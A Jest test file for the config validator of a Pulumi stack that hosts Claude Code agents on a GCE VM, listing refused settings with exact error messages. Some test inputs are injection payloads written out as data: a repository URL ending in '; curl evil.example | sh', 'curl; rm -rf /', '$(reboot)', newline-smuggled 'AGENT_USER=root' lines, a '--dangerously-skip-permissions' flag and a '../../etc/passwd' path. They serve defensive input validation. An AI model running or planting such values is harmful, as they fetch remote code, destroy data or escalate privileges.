// Every configuration the stack refuses: the exact message (naming the key, the bad value and the
// fix), thrown before any resource is registered.
import { parseConfig, checkDataDisk, resourceNames, ConfigError, CONFIG_KEYS } from "../config";
import { BASE_CONFIG, registeredSoFar, runProgram } from "./harness";

jest.setTimeout(60_000);

const PUB =
  "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPersonPersonPersonPersonPersonPersonPerso alice@laptop";

type Case = [label: string, overrides: Record<string, string | undefined>, message: string];

const CASES: Case[] = [
  [
    "agentCount not a number",
    { "agent-host:agentCount": "ten" },
    'agentCount must be a whole number; got "ten". Run: pulumi config set agentCount 10',
  ],
  [
    "agentCount fractional",
    { "agent-host:agentCount": "2.5" },
    'agentCount must be a whole number; got "2.5". Run: pulumi config set agentCount 10',
  ],
  [
    "agentCount zero",
    { "agent-host:agentCount": "0" },
    "agentCount must be at least 1; got 0. Run: pulumi config set agentCount 10",
  ],
  [
    "agentCount negative",
    { "agent-host:agentCount": "-3" },
    "agentCount must be at least 1; got -3. Run: pulumi config set agentCount 10",
  ],
  [
    "agentCount above the memory bound",
    { "agent-host:agentCount": "21" },
    "agentCount must be between 1 and 20 for e2-standard-8 (32 GiB, 1.5 GiB per agent after 2 GiB for the host); got 21. Lower agentCount or pick a larger machineType.",
  ],
  [
    "agentCount above the bound of a small machine",
    { "agent-host:agentCount": "5", "agent-host:machineType": "e2-standard-2" },
    "agentCount must be between 1 and 4 for e2-standard-2 (8 GiB, 1.5 GiB per agent after 2 GiB for the host); got 5. Lower agentCount or pick a larger machineType.",
  ],
  [
    "agentCount above the absolute ceiling on an unknown machine",
    { "agent-host:agentCount": "65", "agent-host:machineType": "x9-mega-512" },
    "agentCount must be between 1 and 64; got 65. Lower agentCount.",
  ],
  [
    "machineType of the wrong form",
    { "agent-host:machineType": "E2 Standard 8" },
    'machineType must be a Compute Engine machine type such as e2-standard-8; got "E2 Standard 8". Run: pulumi config set machineType e2-standard-8',
  ],
  [
    "image pinned by self link",
    {
      "agent-host:image":
        "projects/ubuntu-os-cloud/global/images/ubuntu-2404-noble-amd64-v20251001",
    },
    'image must be an image family as project/family, not a pinned image or self link (a pinned image replaces the VM on every release); got "projects/ubuntu-os-cloud/global/images/ubuntu-2404-noble-amd64-v20251001". Run: pulumi config set image ubuntu-os-cloud/ubuntu-2404-lts-amd64',
  ],
  [
    "image URL",
    { "agent-host:image": "https://www.googleapis.com/compute/v1/projects/x/global/images/y" },
    'image must be an image family as project/family, not a pinned image or self link (a pinned image replaces the VM on every release); got "https://www.googleapis.com/compute/v1/projects/x/global/images/y". Run: pulumi config set image ubuntu-os-cloud/ubuntu-2404-lts-amd64',
  ],
  [
    "bootDiskSizeGb too small",
    { "agent-host:bootDiskSizeGb": "10" },
    "bootDiskSizeGb must be between 20 and 65536; got 10. Run: pulumi config set bootDiskSizeGb 50",
  ],
  [
    "dataDiskSizeGb not a number",
    { "agent-host:dataDiskSizeGb": "200GB" },
    'dataDiskSizeGb must be a whole number; got "200GB". Run: pulumi config set dataDiskSizeGb 200',
  ],
  [
    "dataDiskType unknown",
    { "agent-host:dataDiskType": "hyperdisk-fast" },
    'dataDiskType must be one of pd-standard, pd-balanced, pd-ssd, pd-extreme; got "hyperdisk-fast". Run: pulumi config set dataDiskType pd-balanced',
  ],
  [
    "sshSourceRanges missing",
    { "agent-host:sshSourceRanges": undefined },
    "sshSourceRanges is required: the networks allowed to reach SSH on the VM. Run: pulumi config set --path 'sshSourceRanges[0]' 203.0.113.7/32 (your address), or 35.235.240.0/20 for IAP.",
  ],
  [
    "sshSourceRanges empty list",
    { "agent-host:sshSourceRanges": "[]" },
    "sshSourceRanges is an empty list; nobody could reach the VM. Run: pulumi config set --path 'sshSourceRanges[0]' 203.0.113.7/32",
  ],
  [
    "sshSourceRanges not a list",
    { "agent-host:sshSourceRanges": "203.0.113.7/32" },
    "sshSourceRanges must be a list of strings; got \"203.0.113.7/32\". Set it with: pulumi config set --path 'sshSourceRanges[0]' 203.0.113.7/32",
  ],
  [
    "sshSourceRanges list of numbers",
    { "agent-host:sshSourceRanges": "[22]" },
    "sshSourceRanges must be a list of strings; got \"[22]\". Set it with: pulumi config set --path 'sshSourceRanges[0]' 203.0.113.7/32",
  ],
  [
    "sshSourceRanges without a prefix length",
    { "agent-host:sshSourceRanges": '["203.0.113.7"]' },
    'sshSourceRanges has "203.0.113.7", which is not an IPv4 CIDR. Use a network in CIDR form, e.g. 203.0.113.0/24 or 198.51.100.7/32.',
  ],
  [
    "sshSourceRanges octet out of range",
    { "agent-host:sshSourceRanges": '["300.1.2.3/32"]' },
    'sshSourceRanges has "300.1.2.3/32", which is not an IPv4 CIDR. Use a network in CIDR form, e.g. 203.0.113.0/24 or 198.51.100.7/32.',
  ],
  [
    "sshSourceRanges host bits set",
    { "agent-host:sshSourceRanges": '["203.0.113.7/24"]' },
    'sshSourceRanges has "203.0.113.7/24", which has host bits set. Did you mean 203.0.113.0/24?',
  ],
  [
    "sshSourceRanges duplicate",
    { "agent-host:sshSourceRanges": '["203.0.113.7/32","203.0.113.7/32"]' },
    'sshSourceRanges lists "203.0.113.7/32" twice. Remove the duplicate.',
  ],
  [
    "sshSourceRanges a hostname",
    { "agent-host:sshSourceRanges": '["office.example.com"]' },
    'sshSourceRanges has "office.example.com", which is not an IPv4 CIDR. Use a network in CIDR form, e.g. 203.0.113.0/24 or 198.51.100.7/32.',
  ],
  [
    "claudeCodeVersion a range",
    { "agent-host:claudeCodeVersion": "^2.1.0" },
    'claudeCodeVersion must be an exact release such as 2.1.331 (no ranges, no "latest": every agent runs one pinned version); got "^2.1.0". Run: pulumi config set claudeCodeVersion 2.1.331',
  ],
  [
    "claudeCodeVersion latest",
    { "agent-host:claudeCodeVersion": "latest" },
    'claudeCodeVersion must be an exact release such as 2.1.331 (no ranges, no "latest": every agent runs one pinned version); got "latest". Run: pulumi config set claudeCodeVersion 2.1.331',
  ],
  [
    "claudeCodeSource unknown",
    { "agent-host:claudeCodeSource": "brew" },
    'claudeCodeSource must be one of npm, native; got "brew". Run: pulumi config set claudeCodeSource npm',
  ],
  [
    "dockerSource unknown",
    { "agent-host:dockerSource": "snap" },
    'dockerSource must be one of docker-apt, distro; got "snap". Run: pulumi config set dockerSource docker-apt',
  ],
  [
    "agentPermissionMode unknown",
    { "agent-host:agentPermissionMode": "yolo" },
    'agentPermissionMode must be one of default, auto, manual, acceptEdits, plan, dontAsk, bypassPermissions; got "yolo". Run: pulumi config set agentPermissionMode default',
  ],
  [
    "snapshotRetentionDays negative",
    { "agent-host:snapshotRetentionDays": "-1" },
    "snapshotRetentionDays must be between 0 and 3650; got -1. Run: pulumi config set snapshotRetentionDays 7 (0 turns snapshots off)",
  ],
  [
    "spot not a boolean",
    { "agent-host:spot": "yes" },
    'spot must be true or false; got "yes". Run: pulumi config set spot false',
  ],
  [
    "sshAuthorizedKeys a private key",
    {
      "agent-host:sshAuthorizedKeys": JSON.stringify(["-----BEGIN OPENSSH PRIVATE KEY-----\nabc"]),
    },
    "sshAuthorizedKeys holds a private key; it must hold public keys only. Remove it with: pulumi config rm sshAuthorizedKeys, then set the .pub content.",
  ],
  [
    "sshAuthorizedKeys not a key",
    { "agent-host:sshAuthorizedKeys": JSON.stringify(["hello world"]) },
    'sshAuthorizedKeys has "hello world"…, which is not an OpenSSH public key. Give the one-line OpenSSH public key, e.g. the content of ~/.ssh/id_ed25519.pub.',
  ],
  [
    "sshAuthorizedKeys with a newline",
    { "agent-host:sshAuthorizedKeys": JSON.stringify([`${PUB}\n${PUB}`]) },
    `sshAuthorizedKeys has ${JSON.stringify(PUB.slice(0, 40))}…, which is not an OpenSSH public key. Give the one-line OpenSSH public key, e.g. the content of ~/.ssh/id_ed25519.pub.`,
  ],
  [
    "anthropicApiKey with whitespace",
    { "agent-host:anthropicApiKey": "sk-ant-api03-abc def" },
    "anthropicApiKey contains whitespace (a pasted newline?). Set it again with: pulumi config set --secret anthropicApiKey <key>",
  ],
  [
    "anthropicApiKey of another vendor",
    { "agent-host:anthropicApiKey": "sk-proj-abcdef" },
    "anthropicApiKey does not look like an Anthropic API key or OAuth token (sk-ant- followed by at least 20 letters, digits, - or _). Set it again with: pulumi config set --secret anthropicApiKey <key>",
  ],
  [
    "anthropicApiKey only the prefix",
    { "agent-host:anthropicApiKey": "sk-ant-" },
    "anthropicApiKey does not look like an Anthropic API key or OAuth token (sk-ant- followed by at least 20 letters, digits, - or _). Set it again with: pulumi config set --secret anthropicApiKey <key>",
  ],
  [
    "deployPrivateKey only a header line",
    { "agent-host:deployPrivateKey": "-----BEGIN OPENSSH PRIVATE KEY-----" },
    "deployPrivateKey must be a whole PEM or OpenSSH private key (-----BEGIN ... PRIVATE KEY----- through -----END ... PRIVATE KEY-----). Set it with: pulumi config set --secret deployPrivateKey < ~/.ssh/agent-host-deploy, or unset it to let the stack generate one.",
  ],
  [
    "deployPrivateKey a public key",
    { "agent-host:deployPrivateKey": PUB },
    "deployPrivateKey must be a whole PEM or OpenSSH private key (-----BEGIN ... PRIVATE KEY----- through -----END ... PRIVATE KEY-----). Set it with: pulumi config set --secret deployPrivateKey < ~/.ssh/agent-host-deploy, or unset it to let the stack generate one.",
  ],
  [
    "repository without a scheme",
    { "agent-host:repository": "github.com/acme/app" },
    'repository must be a git URL; got "github.com/acme/app". Use https://host/path(.git), ssh://[user@]host[:port]/path or user@host:path.git. Run: pulumi config set repository https://github.com/acme/app.git',
  ],
  [
    "repository with shell metacharacters",
    { "agent-host:repository": "git@github.com:acme/app.git; curl evil.example | sh" },
    'repository must be a git URL; got "git@github.com:acme/app.git; curl evil.example | sh". Use https://host/path(.git), ssh://[user@]host[:port]/path or user@host:path.git. Run: pulumi config set repository https://github.com/acme/app.git',
  ],
  [
    "repository over plain http",
    { "agent-host:repository": "http://git.acme.example/app.git" },
    'repository must use https:// or SSH, not an unencrypted protocol; got "http://git.acme.example/app.git". Use https://host/path(.git), ssh://[user@]host[:port]/path or user@host:path.git. Run: pulumi config set repository https://github.com/acme/app.git',
  ],
  [
    "repository with a token in the URL",
    { "agent-host:repository": "https://x-access-token:ghp_abcdefgh@github.com/acme/app.git" },
    "repository must not carry credentials in the URL; got a URL with user info (not shown). Put the token in gitCredentials (pulumi config set --secret gitCredentials <token>) and run: pulumi config set repository <the URL without user@>",
  ],
  [
    "repository path escaping upwards",
    { "agent-host:repository": "git@github.com:../../etc/passwd" },
    'repository must be a git URL; got "git@github.com:../../etc/passwd". Use https://host/path(.git), ssh://[user@]host[:port]/path or user@host:path.git. Run: pulumi config set repository https://github.com/acme/app.git',
  ],
  [
    "gitUserEmail not an address",
    { "agent-host:gitUserName": "Acme Agents", "agent-host:gitUserEmail": "agents at acme" },
    'gitUserEmail must be an email address such as agents@acme.example; got "agents at acme". Run: pulumi config set gitUserEmail agents@acme.example',
  ],
  [
    "gitUserEmail with a newline (would add a host.conf line)",
    {
      "agent-host:gitUserName": "Acme Agents",
      "agent-host:gitUserEmail": "a@acme.example\nAGENT_USER=root",
    },
    'gitUserEmail must be an email address such as agents@acme.example; got "a@acme.example\\nAGENT_USER=root". Run: pulumi config set gitUserEmail agents@acme.example',
  ],
  [
    "gitUserName with a newline",
    {
      "agent-host:gitUserName": "Acme\nAGENT_USER=root",
      "agent-host:gitUserEmail": "agents@acme.example",
    },
    'gitUserName must be a name on one line, without < or > (at most 200 characters); got "Acme\\nAGENT_USER=root". Run: pulumi config set gitUserName "Acme Agents"',
  ],
  [
    "gitUserName without gitUserEmail",
    { "agent-host:gitUserName": "Acme Agents" },
    "gitUserEmail is not set but gitUserName is; the agents' commits need both. Run: pulumi config set gitUserEmail agents@acme.example",
  ],
  [
    "extraPackages with a shell command",
    { "agent-host:extraPackages": JSON.stringify(["ripgrep", "curl; rm -rf /"]) },
    "extraPackages has \"curl; rm -rf /\", which is not a Debian/Ubuntu package name (lowercase letters, digits, + - . only; no spaces, versions or shell characters). Fix it with: pulumi config set --path 'extraPackages[1]' build-essential",
  ],
  [
    "extraPackages with a command substitution",
    { "agent-host:extraPackages": JSON.stringify(["$(reboot)"]) },
    "extraPackages has \"$(reboot)\", which is not a Debian/Ubuntu package name (lowercase letters, digits, + - . only; no spaces, versions or shell characters). Fix it with: pulumi config set --path 'extraPackages[0]' build-essential",
  ],
  [
    "extraPackages with an option",
    { "agent-host:extraPackages": JSON.stringify(["--allow-unauthenticated"]) },
    "extraPackages has \"--allow-unauthenticated\", which is not a Debian/Ubuntu package name (lowercase letters, digits, + - . only; no spaces, versions or shell characters). Fix it with: pulumi config set --path 'extraPackages[0]' build-essential",
  ],
  [
    "extraPackages with a version",
    { "agent-host:extraPackages": JSON.stringify(["nodejs=18.19.0"]) },
    "extraPackages has \"nodejs=18.19.0\", which is not a Debian/Ubuntu package name (lowercase letters, digits, + - . only; no spaces, versions or shell characters). Fix it with: pulumi config set --path 'extraPackages[0]' build-essential",
  ],
  [
    "extraPackages as one string",
    { "agent-host:extraPackages": "ripgrep jq" },
    "extraPackages must be a list of strings; got \"ripgrep jq\". Set it with: pulumi config set --path 'extraPackages[0]' build-essential",
  ],
  [
    "gitCredentials with whitespace",
    {
      "agent-host:gitCredentials": "ghp_abc def",
      "agent-host:repository": "https://github.com/acme/app.git",
    },
    "gitCredentials contains whitespace (a pasted newline, or a public key?); it must be a token, user:token, or an SSH private key. Set it again with: pulumi config set --secret gitCredentials <token> (or < ~/.ssh/deploy-key for an SSH key)",
  ],
  [
    "gitCredentials an SSH key for an HTTPS repository",
    {
      "agent-host:gitCredentials":
        "-----BEGIN OPENSSH PRIVATE KEY-----\nabc\n-----END OPENSSH PRIVATE KEY-----\n",
      "agent-host:repository": "https://github.com/acme/app.git",
    },
    'gitCredentials is an SSH private key but repository is an HTTPS URL ("https://github.com/acme/app.git"). Use the repository\'s SSH URL (git@host:path.git), or put an HTTPS token in gitCredentials.',
  ],
  [
    "gitCredentials a token for an SSH repository",
    {
      "agent-host:gitCredentials": "ghp_abcdefgh12345678",
      "agent-host:repository": "git@github.com:acme/app.git",
    },
    'gitCredentials is a token but repository is an SSH URL ("git@github.com:acme/app.git"). Use the repository\'s https:// URL, or put an SSH private key in gitCredentials.',
  ],
  [
    "gitCredentials a non-GitHub token without a repository",
    { "agent-host:gitCredentials": "glpat-abcdefgh12345678" },
    "gitCredentials is a token that is not GitHub's, and repository is not set, so the host it is for is unknown (a token is only ever sent to that host). Run: pulumi config set repository https://github.com/acme/app.git",
  ],
  [
    "unknown key (typo)",
    { "agent-host:agentCounts": "12" },
    `agent-host:agentCounts is not a configuration key of this stack (a typo?). Known keys: ${CONFIG_KEYS.join(", ")}. Remove it with: pulumi config rm agentCounts`,
  ],
  [
    "claudeProvider unknown",
    { "agent-host:claudeProvider": "bedrock" },
    'claudeProvider must be one of anthropic, vertex; got "bedrock". Run: pulumi config set claudeProvider anthropic',
  ],
  [
    "vertexRegion where Claude is not served",
    { "agent-host:claudeProvider": "vertex", "agent-host:vertexRegion": "europe-west3" },
    'vertexRegion must be a Vertex AI location that serves Claude (global, us, eu, us-east5, us-central1, us-east1, us-east4, us-west1, europe-west1, europe-west4, asia-east1, asia-southeast1); got "europe-west3". Run: pulumi config set vertexRegion global',
  ],
  [
    "vertexRegion given as a zone",
    { "agent-host:claudeProvider": "vertex", "agent-host:vertexRegion": "us-east5-a" },
    'vertexRegion must be a Vertex AI location that serves Claude (global, us, eu, us-east5, us-central1, us-east1, us-east4, us-west1, europe-west1, europe-west4, asia-east1, asia-southeast1); got "us-east5-a". Run: pulumi config set vertexRegion global',
  ],
  [
    "vertex with an API key",
    {
      "agent-host:claudeProvider": "vertex",
      "agent-host:anthropicApiKey": `sk-ant-api03-${"K".repeat(40)}`,
    },
    "anthropicApiKey is set but claudeProvider is vertex: on Vertex AI every agent signs in with the VM's service account, and the key would sit on the VM unused. Remove it with: pulumi config rm anthropicApiKey (or keep it and run: pulumi config set claudeProvider anthropic)",
  ],
  [
    "vertex with anthropicBaseUrl",
    {
      "agent-host:claudeProvider": "vertex",
      "agent-host:anthropicBaseUrl": "https://llm.acme.example/anthropic",
    },
    'anthropicBaseUrl is set ("https://llm.acme.example/anthropic") but claudeProvider is vertex, which never calls Anthropic\'s API. For another Vertex endpoint (e.g. Private Service Connect) use vertexBaseUrl. Run: pulumi config rm anthropicBaseUrl',
  ],
  [
    "vertexBaseUrl without vertex",
    { "agent-host:vertexBaseUrl": "https://vertex-psc.p.googleapis.com/v1" },
    'vertexBaseUrl is set ("https://vertex-psc.p.googleapis.com/v1") but claudeProvider is anthropic. Run: pulumi config set claudeProvider vertex to use Vertex AI, or pulumi config rm vertexBaseUrl (a gateway in front of Anthropic\'s API goes in anthropicBaseUrl)',
  ],
  [
    "claudeModel an Anthropic API ID on Vertex",
    {
      "agent-host:claudeProvider": "vertex",
      "agent-host:claudeModel": "claude-sonnet-4-5-20250929",
    },
    'claudeModel "claude-sonnet-4-5-20250929" is an Anthropic API model ID, which Vertex AI does not serve (it writes the version after @). Run: pulumi config set claudeModel claude-sonnet-4-5@20250929',
  ],
  [
    "claudeModel a Vertex ID on Anthropic's API",
    { "agent-host:claudeModel": "claude-opus-4-1@20250805" },
    'claudeModel "claude-opus-4-1@20250805" is a Vertex AI model ID (version after @), which Anthropic\'s API does not serve. Run: pulumi config set claudeModel claude-opus-4-1-20250805 (or pulumi config set claudeProvider vertex)',
  ],
  [
    "claudeModel with a space (a second host.conf word)",
    { "agent-host:claudeModel": "sonnet --dangerously-skip-permissions" },
    'claudeModel must be a Claude model ID or alias (letters, digits and . _ - : @ [ ], at most 128 characters), e.g. sonnet, claude-sonnet-4-5-20250929, or on Vertex AI claude-sonnet-4-5@20250929; got "sonnet --dangerously-skip-permissions". Run: pulumi config set claudeModel sonnet (or pulumi config rm claudeModel for Claude Code\'s default)',
  ],
  [
    "anthropicBaseUrl with credentials in it (not echoed)",
    { "agent-host:anthropicBaseUrl": "https://team:hunter2@llm.acme.example" },
    "anthropicBaseUrl must not carry credentials in the URL; got a URL with user info (not shown). It is written in plain text to the VM: give the URL without user@ (pulumi config set anthropicBaseUrl https://llm-gateway.example.com/anthropic) and put a key in anthropicApiKey (pulumi config set --secret anthropicApiKey <key>).",
  ],
  [
    "anthropicBaseUrl with a key in the query (not echoed)",
    { "agent-host:anthropicBaseUrl": "https://llm.acme.example/anthropic?key=hunter2" },
    "anthropicBaseUrl must not have a query string or fragment (they can carry keys, and Claude Code appends its own path); got a URL with ? or # (not shown). Run: pulumi config set anthropicBaseUrl https://llm-gateway.example.com/anthropic",
  ],
  [
    "anthropicBaseUrl with an API key in its path (not echoed)",
    { "agent-host:anthropicBaseUrl": `https://llm.acme.example/sk-ant-api03-${"Q".repeat(30)}` },
    "anthropicBaseUrl holds text shaped like a credential (not shown); it is written in plain text to the VM. Give the URL only and put a key in anthropicApiKey (pulumi config set --secret anthropicApiKey <key>). Run: pulumi config rm anthropicBaseUrl, then: pulumi config set anthropicBaseUrl https://llm-gateway.example.com/anthropic",
  ],
  [
    "anthropicBaseUrl over plain http to another host",
    { "agent-host:anthropicBaseUrl": "http://llm.acme.example" },
    'anthropicBaseUrl must use https:// (plain http only for a gateway on the VM itself, 127.0.0.1 or localhost); got "http://llm.acme.example". Run: pulumi config set anthropicBaseUrl https://llm-gateway.example.com/anthropic',
  ],
  [
    "anthropicBaseUrl not a URL",
    { "agent-host:anthropicBaseUrl": "llm.acme.example" },
    'anthropicBaseUrl must be an absolute URL such as https://llm-gateway.example.com/anthropic; got "llm.acme.example". Run: pulumi config set anthropicBaseUrl https://llm-gateway.example.com/anthropic',
  ],
  [
    "anthropicBaseUrl with a newline (a second host.conf line)",
    { "agent-host:anthropicBaseUrl": "https://llm.acme.example\nCLAUDE_PROVIDER=vertex" },
    'anthropicBaseUrl must be a URL without spaces, quotes, backslashes or $; got "https://llm.acme.example\\nCLAUDE_PROVIDER=vertex". Run: pulumi config set anthropicBaseUrl https://llm-gateway.example.com/anthropic',
  ],
  [
    "vertexBaseUrl with user info (not echoed)",
    {
      "agent-host:claudeProvider": "vertex",
      "agent-host:vertexBaseUrl": "https://sa:secret@vertex-psc.p.googleapis.com/v1",
    },
    "vertexBaseUrl must not carry credentials in the URL; got a URL with user info (not shown). It is written in plain text to the VM: give the URL without user@ (pulumi config set vertexBaseUrl https://us-east5-aiplatform.googleapis.com/v1) and let the VM's service account sign in (Vertex AI needs no key).",
  ],
  [
    "zone missing",
    { "gcp:zone": undefined },
    "gcp:zone is not set; the VM needs a zone. Run: pulumi config set gcp:zone europe-west1-b",
  ],
  [
    "zone given as a region",
    { "gcp:zone": "europe-west1" },
    'gcp:zone must be a zone such as europe-west1-b; got "europe-west1". Run: pulumi config set gcp:zone europe-west1-b',
  ],
  [
    "project missing",
    { "gcp:project": undefined },
    "gcp:project is not set; the stack needs the project that holds the VM. Run: pulumi config set gcp:project my-project-id",
  ],
  [
    "project of the wrong form",
    { "gcp:project": "My Project" },
    'gcp:project must be a project ID (6-30 lowercase letters, digits, hyphens); got "My Project". Run: pulumi config set gcp:project my-project-id',
  ],
  [
    "workHoursStart not HH:MM",
    { "agent-host:workHoursStart": "8am" },
    'workHoursStart must be a time of day as HH:MM (24-hour clock, e.g. 08:30 or 19:00); got "8am". Run: pulumi config set workHoursStart 08:00',
  ],
  [
    "workHoursStop past midnight",
    { "agent-host:workHoursStart": "08:00", "agent-host:workHoursStop": "24:00" },
    'workHoursStop must be a time of day as HH:MM (24-hour clock, e.g. 08:30 or 19:00); got "24:00". Run: pulumi config set workHoursStop 19:00',
  ],
  [
    "workHoursStart equal to workHoursStop",
    { "agent-host:workHoursStart": "9:00", "agent-host:workHoursStop": "09:00" },
    "workHoursStart and workHoursStop are both 09:00; the VM would start and stop at once. Run: pulumi config set workHoursStop 19:00",
  ],
  [
    "workDays not day names",
    { "agent-host:workHoursStop": "19:00", "agent-host:workDays": "Weekdays" },
    'workDays has "Weekdays", not a day name; got "Weekdays". Use three-letter day names, ranges and commas, e.g. Mon-Fri or Mon,Wed,Fri. Run: pulumi config set workDays Mon-Fri',
  ],
  [
    "workDays with an open range",
    { "agent-host:workHoursStop": "19:00", "agent-host:workDays": "Mon-" },
    'workDays must be day names, ranges and commas; got "Mon-". Use three-letter day names, ranges and commas, e.g. Mon-Fri or Mon,Wed,Fri. Run: pulumi config set workDays Mon-Fri',
  ],
  [
    "workTimeZone unknown",
    { "agent-host:workHoursStop": "19:00", "agent-host:workTimeZone": "Mars/Olympus_Mons" },
    'workTimeZone must be an IANA time zone name such as Europe/Berlin or America/New_York; got "Mars/Olympus_Mons". Run: pulumi config set workTimeZone Europe/Berlin',
  ],
  [
    "workTimeZone in the wrong case",
    { "agent-host:workHoursStop": "19:00", "agent-host:workTimeZone": "europe/berlin" },
    'workTimeZone must be an IANA time zone name such as Europe/Berlin or America/New_York; got "europe/berlin". Did you mean Europe/Berlin? Run: pulumi config set workTimeZone Europe/Berlin',
  ],
  [
    "autoStopMinutes below the floor",
    { "agent-host:autoStopMinutes": "5" },
    "autoStopMinutes must be 0 (off) or between 10 and 1440; got 5: a dropped SSH connection would stop the VM under a person. Run: pulumi config set autoStopMinutes 10",
  ],
  [
    "autoStopMinutes with a unit",
    { "agent-host:autoStopMinutes": "1h" },
    'autoStopMinutes must be a whole number; got "1h". Run: pulumi config set autoStopMinutes 60 (0 turns auto-stop off)',
  ],
  [
    "autoStopMinutes above a day",
    { "agent-host:autoStopMinutes": "2000" },
    "autoStopMinutes must be between 0 and 1440; got 2000. Run: pulumi config set autoStopMinutes 60 (0 turns auto-stop off)",
  ],
];

const SECRET_KEYS = [
  "agent-host:anthropicApiKey",
  "agent-host:deployPrivateKey",
  "agent-host:gitCredentials",
];

function configWith(overrides: Record<string, string | undefined>): Record<string, string> {
  const merged: Record<string, string | undefined> = { ...BASE_CONFIG, ...overrides };
  return Object.fromEntries(Object.entries(merged).filter(([, v]) => v !== undefined)) as Record<
    string,
    string
  >;
}

describe.each(CASES)("refuses %s", (_label, overrides, message) => {
  test("parseConfig throws the exact message", () => {
    expect(() => parseConfig(configWith(overrides))).toThrow(new ConfigError(message));
  });

  test("the program throws it before registering any resource", async () => {
    await expect(runProgram(configWith(overrides), { secretKeys: SECRET_KEYS })).rejects.toThrow(
      message,
    );
    expect(registeredSoFar()).toEqual([]);
  });
});

test("the table has at least 25 bad configurations", () => {
  expect(CASES.length).toBeGreaterThanOrEqual(25);
});

describe("refusals that need the current state", () => {
  test("a data disk smaller than the one that exists", async () => {
    const message =
      "dataDiskSizeGb is 100 but the data disk already has 200 GB; a disk cannot shrink (it would be recreated, empty). Run: pulumi config set dataDiskSizeGb 200";
    expect(() =>
      checkDataDisk(
        { dataDiskSizeGb: 100, dataDiskType: "pd-balanced" },
        { sizeGb: 200, type: "pd-balanced" },
      ),
    ).toThrow(message);
    await expect(
      runProgram(configWith({ "agent-host:dataDiskSizeGb": "100" }), {
        existingDisk: { size: 200, type: "pd-balanced" },
      }),
    ).rejects.toThrow(message);
    expect(registeredSoFar()).toEqual([]);
  });

  test("a data disk of another type than the one that exists", async () => {
    const message =
      "dataDiskType is pd-ssd but the data disk is pd-balanced; changing the type recreates the disk, empty. Run: pulumi config set dataDiskType pd-balanced (to move, snapshot the disk and restore it into a new stack)";
    await expect(
      runProgram(configWith({ "agent-host:dataDiskType": "pd-ssd" }), {
        existingDisk: { size: 200, type: "pd-balanced" },
      }),
    ).rejects.toThrow(message);
    expect(registeredSoFar()).toEqual([]);
  });

  test("a grown data disk is fine", async () => {
    const run = await runProgram(configWith({ "agent-host:dataDiskSizeGb": "300" }), {
      existingDisk: { size: 200, type: "pd-balanced" },
    });
    expect(run.resources.length).toBeGreaterThan(0);
  });

  test("a secret stored in plain text", async () => {
    const message =
      "anthropicApiKey is stored in plain text in the stack's config file. Remove it with: pulumi config rm anthropicApiKey, then set it with: pulumi config set --secret anthropicApiKey <value>";
    await expect(
      runProgram(configWith({ "agent-host:anthropicApiKey": "sk-ant-api03-plain" }), {
        secretKeys: [],
      }),
    ).rejects.toThrow(message);
    expect(registeredSoFar()).toEqual([]);
  });

  test("git credentials stored in plain text", async () => {
    const message =
      "gitCredentials is stored in plain text in the stack's config file. Remove it with: pulumi config rm gitCredentials, then set it with: pulumi config set --secret gitCredentials <value>";
    await expect(
      runProgram(
        configWith({
          "agent-host:gitCredentials": "ghp_PLAINTEXTplaintext0123",
          "agent-host:repository": "https://github.com/acme/app.git",
        }),
        { secretKeys: ["agent-host:anthropicApiKey", "agent-host:deployPrivateKey"] },
      ),
    ).rejects.toThrow(message);
    expect(registeredSoFar()).toEqual([]);
  });

  test("a notification webhook stored in plain text", async () => {
    const message =
      "notifyWebhookUrl is stored in plain text in the stack's config file. Remove it with: pulumi config rm notifyWebhookUrl, then set it with: pulumi config set --secret notifyWebhookUrl <value>";
    await expect(
      runProgram(configWith({ "agent-host:notifyWebhookUrl": "https://ntfy.sh/plain-topic" }), {
        secretKeys: [],
      }),
    ).rejects.toThrow(message);
    expect(registeredSoFar()).toEqual([]);
  });

  test.each([
    ["http://ntfy.sh/topic-CANARYhook", "must be an https:// URL"],
    ["ntfy.sh/topic-CANARYhook", "must be an https:// URL"],
    ["slack:ftp://hooks.slack.com/CANARYhook", "must be an https:// URL"],
    ["https://hooks.slack.com/services/T/B/CANARY hook", "contains whitespace"],
  ])("a notification webhook that is not an https URL: %j", async (value, words) => {
    const run = runProgram(configWith({ "agent-host:notifyWebhookUrl": value }), {
      secretKeys: ["agent-host:notifyWebhookUrl"],
    });
    await expect(run).rejects.toThrow(`notifyWebhookUrl ${words}`);
    await expect(run).rejects.toThrow("pulumi config set --secret notifyWebhookUrl");
    await expect(run).rejects.not.toThrow(/CANARY ?hook/);
    expect(registeredSoFar()).toEqual([]);
  });

  test("a stack name GCE cannot use", () => {
    expect(() => resourceNames("agent-host", "x".repeat(60))).toThrow(
      /^The stack name "x{60}" gives the VM name "agent-host-x{60}", which GCE refuses/,
    );
  });
});
